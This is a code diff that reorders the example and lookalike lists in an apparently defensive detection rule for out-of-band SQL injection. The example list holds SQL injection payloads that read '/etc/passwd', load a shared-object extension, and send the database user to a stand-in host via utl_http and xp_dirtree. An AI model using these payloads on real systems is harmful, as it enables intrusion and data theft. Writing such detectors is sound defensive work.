@@ -29,15 +29,14 @@ export const outOfBand: ValueRule = {
   trigger: outsideTrigger,
   judge: (subject) => strongestCall(subject, outsideClasses, scoreOf),
   examples: [
-    "(readfile(nullif('','')))",
-    ...["(load_extension( ('x.so') ) )", "1 union select load_file('/etc/passwd')"],
+    ...["(readfile(nullif('','')))", "(load_extension( ('x.so') ) )"],
+    "1 union select load_file('/etc/passwd')",
     "'||utl_http.request('http://collect.example/'||user)||'",
     "exec master..xp_dirtree '\\\\\\\\collect.example\\\\x'",
     "1 and pg_read_file('/etc/passwd')='x'",
   ],
   lookalikes: [
-    "readfile(join('a','b'))",
-    'The xp_cmdshell procedure is off by default.',
+    ...["readfile(join('a','b'))", 'The xp_cmdshell procedure is off by default.'],
     ...['load_file and dblink are names of functions', 'Call readfile to read a file'],
     '- Improved `examples/readfile.c`\n- Reworked (re)allocation',
     "fs.readFile('notes.txt', (err, text) => show(text))",
